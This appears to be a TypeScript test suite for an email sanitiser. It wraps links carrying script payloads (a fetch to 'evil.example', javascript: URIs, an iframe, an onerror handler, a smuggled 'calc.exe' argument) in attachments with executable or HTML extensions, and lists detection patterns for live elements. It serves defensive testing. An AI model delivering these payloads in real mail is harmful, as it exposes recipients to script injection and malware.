/**
 * A file whose bytes are a link that stands elsewhere in the mail: it must be judged as the file it is, never by what is said of
 * the link. Judged with a mail parser and a page parser of others.
 */
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import PostalMime from 'postal-mime';
import { mailAttack } from './attack-class.ts';

type Node = DefaultTreeAdapterTypes.Node;

const PAYLOAD = "<script>fetch('//evil.example')</script>";
/** Texts that are a link and, as a file, something that acts. */
const LINKS = [
  `urn:${PAYLOAD}`,
  `tel:${PAYLOAD}`,
  `x-note:${PAYLOAD}`,
  `data:text/html,${PAYLOAD}`,
  'javascript:fetch(1)//<img/src=x/onerror=fetch(2)>',
  `https://host.example/#${PAYLOAD}`,
  `https://host.example/?a&calc.exe&b`,
  `mailto:a@host.example?subject=${PAYLOAD}`,
  `ftp://host.example/${PAYLOAD}`,
  'news:<iframe/src=//evil.example>',
] as const;

interface Carrier {
  readonly name: string;
  readonly type: string;
  /** Null for a body. */
  readonly extension: string | null;
}

const CARRIERS: readonly Carrier[] = [
  { name: 'plain body', type: 'text/plain', extension: null },
  { name: 'page body', type: 'text/html', extension: null },
  ...[
    'txt',
    'html',
    'htm',
    'xhtml',
    'svg',
    'bat',
    'cmd',
    'js',
    'hta',
    'url',
    'csv',
    'xml',
    'vbs',
    'ps1',
    'ics',
    'doc',
  ].map((extension) => ({ name: extension, type: 'application/octet-stream', extension })),
];

/** Ways the same link stands in the mail, so that it is judged too. */
const PLACES: Readonly<Record<string, (link: string) => [type: string, content: string]>> = {
  attribute: (link) => ['text/html', `<p><a href="${link.replaceAll('"', '&quot;')}">read</a>`],
  text: (link) => ['text/plain', `See\r\n${link}\r\nplease`],
  both: (link) => ['text/html', `<p>${link} <a href='${link.replaceAll("'", '&#39;')}'>read</a>`],
};

interface Case {
  readonly id: string;
  readonly email: string;
}

function part(type: string, name: string | null, content: string): string {
  const disposition = name === null ? '' : `Content-Disposition: attachment; filename="${name}"\r\n`;
  const body = Buffer.from(content, 'latin1').toString('base64').replace(/.{76}/g, '$&\r\n');
  return `--b\r\nContent-Type: ${type}; charset=utf-8\r\n${disposition}Content-Transfer-Encoding: base64\r\n\r\n${body}\r\n`;
}

function mail(parts: readonly string[]): string {
  const head = ['From: a@sender.example', 'To: b@recipient.example', 'Subject: Notes', 'MIME-Version: 1.0'];
  return [...head, 'Content-Type: multipart/mixed; boundary=b', '', parts.join(''), '--b--', ''].join('\r\n');
}

/** As it is written, and as a program writes it after reading it: what is known of one must not count for the other. */
function spellings(link: string): [string, string][] {
  const normalised = new URL(link).href;
  return normalised === link
    ? [['as is', link]]
    : [
        ['as is', link],
        ['normalised', normalised],
      ];
}

function* cases(): Iterable<Case> {
  let turn = 0;
  for (const link of LINKS)
    for (const carrier of CARRIERS)
      for (const [place, shownIn] of Object.entries(PLACES)) {
        // Every link meets every carrier from every place; spelling and order go round.
        const ways = spellings(link);
        const [spelling, content] = ways[turn++ % ways.length] ?? ['as is', link];
        const [type, text] = shownIn(link);
        const file = part(carrier.type, carrier.extension && `notes.${carrier.extension}`, content);
        const shown = part(type, null, text);
        const parts = turn % 4 < 2 ? [file, shown] : [shown, file];
        yield { id: `${link} ${spelling} as ${carrier.name}, link in ${place}`, email: mail(parts) };
      }
}

/** Extensions that are run or shown by double click. */
const RUN = /\.(bat|cmd|js|hta|url|vbs|ps1|xhtml)$/i;
const SHOWN = /\.(html?|svg|xml|doc)$/i;

async function liveThing(message: Uint8Array): Promise<string | null> {
  const { html, attachments } = await PostalMime.parse(Buffer.from(message));
  const pages: [string, string][] = html === undefined ? [] : [['the page of the mail', html]];
  for (const { filename, mimeType, content } of attachments) {
    const name = filename ?? mimeType;
    if (RUN.test(name)) return `a file called ${name} is delivered`;
    if (SHOWN.test(name) || mimeType === 'text/html')
      pages.push([name, Buffer.from(content as ArrayBuffer).toString()]);
  }
  for (const [name, page] of pages) {
    const live = liveElement(parse(page));
    if (live !== null) return `${name} has ${live}`;
  }
  return null;
}

function liveElement(node: Node): string | null {
  if ('attrs' in node) {
    if (['script', 'iframe', 'object', 'embed'].includes(node.tagName)) return `<${node.tagName}>`;
    const acting = node.attrs.find(
      ({ name, value }) => name.startsWith('on') || /^\s*(javascript|vbscript|data):/i.test(value),
    );
    if (acting !== undefined) return `${acting.name}="${acting.value}"`;
  }
  for (const child of 'childNodes' in node ? node.childNodes : []) {
    const live = liveElement(child);
    if (live !== null) return live;
  }
  return null;
}

const ORDINARY_LINKS = ['https://www.example.org/', 'https://example.org/minutes/2026-11-20', 'mailto:ana@example.org'];

/** A note that holds just its link, and the same bytes twice. */
function* ordinary(): Iterable<Case> {
  for (const link of ORDINARY_LINKS)
    for (const [how, parts] of Object.entries({
      'a note that is the link': [part('text/plain', null, `See ${link}`), part('text/plain', 'link.txt', link)],
      'a body that is the link': [part('text/plain', null, link)],
      'a body and a note that are the link': [part('text/plain', null, link), part('text/plain', 'link.txt', link)],
      'a page with the link, and the note': [
        part('text/html', null, `<p><a href="${link}">minutes</a>`),
        part('text/plain', 'link.txt', link),
      ],
      'a table that is the link': [part('text/plain', null, `See ${link}`), part('text/csv', 'links.csv', link)],
      'the note twice': [part('text/plain', 'one.txt', link), part('text/plain', 'two.txt', link)],
    }))
      yield { id: `${how}: ${link}`, email: mail(parts) };
}

async function spoiled(email: string, message: Uint8Array): Promise<string | null> {
  const [before, after] = [await PostalMime.parse(email), await PostalMime.parse(Buffer.from(message))];
  if (before.text?.trim() !== after.text?.trim()) return `the text became ${JSON.stringify(after.text)}`;
  const facts = ({ attachments }: typeof before) =>
    attachments.map(({ filename, content }) => `${filename}: ${Buffer.from(content as ArrayBuffer).toString()}`).join();
  return facts(before) === facts(after) ? null : `the files became ${facts(after)}`;
}

export const identity = mailAttack<Case>({
  name: 'identity',
  title: 'a file whose bytes are a link, delivered under what is said of the link',
  cases,
  judge: (_, { message }) => liveThing(message),
  ordinary,
  judgeOrdinary: ({ email }, { message }) => spoiled(email, message),
});
